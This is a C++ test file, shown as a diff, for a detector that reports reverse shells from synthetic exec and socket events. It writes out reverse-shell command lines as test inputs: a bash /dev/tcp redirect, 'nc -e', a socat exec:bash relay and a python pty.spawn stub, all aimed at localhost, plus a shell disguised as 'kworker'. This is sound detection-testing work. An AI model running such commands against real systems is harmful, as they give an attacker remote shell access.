@@ -1,0 +1,87 @@
+#include <doctest/doctest.h>
+
+#include "synth.hpp"
+
+using nlohmann::json;
+
+namespace {
+json net(int src_port, int dst_port) {
+  return {{"protocol", "tcp"}, {"family", "ipv4"}, {"src_addr", "127.0.0.1"}, {"src_port", src_port},
+          {"dst_addr", "127.0.0.1"}, {"dst_port", dst_port}};
+}
+// stdin and stdout on the same socket (`bash -i >& /dev/tcp/... 0>&1`, `nc -e`)
+json socket_stdio(int src_port, int dst_port, std::uint64_t inode = 9001) {
+  json side = {{"pipe", false}, {"inode", inode}, {"socket", true}, {"net", net(src_port, dst_port)}};
+  return {{"stdio", {{"stdin", side}, {"stdout", side}}}};
+}
+std::uint64_t connect(synth::Trail& t, std::uint64_t exec_id, int src_port, int dst_port) {
+  json n = net(src_port, dst_port);
+  n["result"] = "ok";
+  return t.of(exec_id, "net_connect", "net", n);
+}
+}  // namespace
+
+TEST_CASE("reverse-shell: a shell on a TCP socket, joined to its connect in either order") {
+  synth::Trail t;
+  t.exec(1, 0, "/usr/bin/bash", {"bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"});
+  auto c = connect(t, 1, 40001, 4444);  // the forked child of exec 1 connects, then execs bash -i
+  auto sh = t.exec(2, 1, "/usr/bin/bash", {"bash", "-i"}, socket_stdio(40001, 4444));
+  // renamed shell, connection polled after the exec and even its exit (families are polled separately)
+  auto renamed = t.exec(3, 1, "/tmp/.x/kworker", {"kworker"}, socket_stdio(40002, 5555, 9002));
+  t.of(3, "process_exit", "exit", {{"code", 0}});
+  auto c2 = connect(t, 1, 40002, 5555);
+  auto fs = t.findings();
+  REQUIRE(fs.size() == 2);
+  CHECK(fs[0]["id"] == "reverse-shell");
+  CHECK(fs[0]["severity"] == "critical");
+  CHECK(fs[0]["exec_ids"] == json::array({2}));
+  CHECK(fs[0]["evidence"] == json::array({c, sh}));
+  CHECK(fs[0]["title"].get<std::string>().find("127.0.0.1:4444") != std::string::npos);
+  CHECK(fs[1]["exec_ids"] == json::array({3}));
+  CHECK(fs[1]["evidence"] == json::array({renamed, c2}));
+}
+
+TEST_CASE("reverse-shell: a direct shell whose connection never shows is reported on its exec at the end") {
+  synth::Trail t;
+  auto sh = t.exec(2, 1, "/usr/bin/dash", {"sh"}, socket_stdio(40003, 4444));
+  t.of(2, "process_exit", "exit", {{"code", 0}});
+  auto fs = t.findings();
+  REQUIRE(fs.size() == 1);
+  CHECK(fs[0]["evidence"] == json::array({sh}));
+}
+
+TEST_CASE("reverse-shell: relayed through socat or python pty.spawn (terminal or unix socket stdin)") {
+  synth::Trail t;
+  t.exec(10, 0, "/usr/bin/socat", {"socat", "exec:bash -li,pty,stderr", "tcp:127.0.0.1:4444"});
+  auto c = connect(t, 10, 40010, 4444);
+  auto sh = t.exec(11, 10, "/usr/bin/bash", {"bash", "-li"},
+                   {{"stdio", {{"stdin", {{"pipe", false}, {"inode", 5}, {"tty", true}}}, {"stdout", {{"pipe", false}, {"inode", 5}}}}}});
+  t.exec(20, 0, "/usr/bin/python3.11", {"python3", "-c", "import pty,socket,os;..."});
+  auto py = t.exec(21, 20, "/usr/bin/dash", {"/bin/sh"},
+                   {{"stdio", {{"stdin", {{"pipe", false}, {"inode", 6}, {"socket", true}}}, {"stdout", {{"pipe", false}, {"inode", 6}, {"socket", true}}}}}});
+  auto c2 = connect(t, 20, 40020, 4445);  // polled after the shell's exec
+  auto fs = t.findings();
+  REQUIRE(fs.size() == 2);
+  CHECK(fs[0]["exec_ids"] == json::array({11}));
+  CHECK(fs[0]["evidence"] == json::array({c, sh}));
+  CHECK(fs[1]["exec_ids"] == json::array({21}));
+  CHECK(fs[1]["evidence"] == json::array({py, c2}));
+}
+
+TEST_CASE("reverse-shell near misses: data from a socket, output to a socket, a terminal without a connection") {
+  synth::Trail t;
+  t.exec(1, 0, "/usr/bin/bash", {"bash", "job.sh"});
+  connect(t, 1, 40030, 8080);
+  json in_only = {{"stdio", {{"stdin", {{"pipe", false}, {"inode", 7}, {"socket", true}, {"net", net(40030, 8080)}}},
+                              {"stdout", {{"pipe", true}, {"inode", 8}}}}}};
+  t.exec(2, 1, "/usr/bin/cat", {"cat"}, in_only);  // `cat < /dev/tcp/...`: not a shell, stdout elsewhere
+  json out_only = {{"stdio", {{"stdin", {{"pipe", false}, {"inode", 3}}},
+                               {"stdout", {{"pipe", false}, {"inode", 7}, {"socket", true}, {"net", net(40030, 8080)}}}}}};
+  t.exec(3, 1, "/usr/bin/bash", {"bash", "report.sh"}, out_only);  // output sent to the network, commands from a file
+  t.exec(4, 0, "/usr/bin/script", {"script", "-qc", "sh"});
+  auto tty = t.exec(5, 4, "/usr/bin/dash", {"sh"}, {{"stdio", {{"stdin", {{"pipe", false}, {"inode", 9}, {"tty", true}}}}}});
+  t.of(5, "process_exit", "exit", {{"code", 0}});
+  (void)tty;
+  auto fs = t.findings();
+  CHECK_MESSAGE(fs.empty(), json(fs).dump());
+}
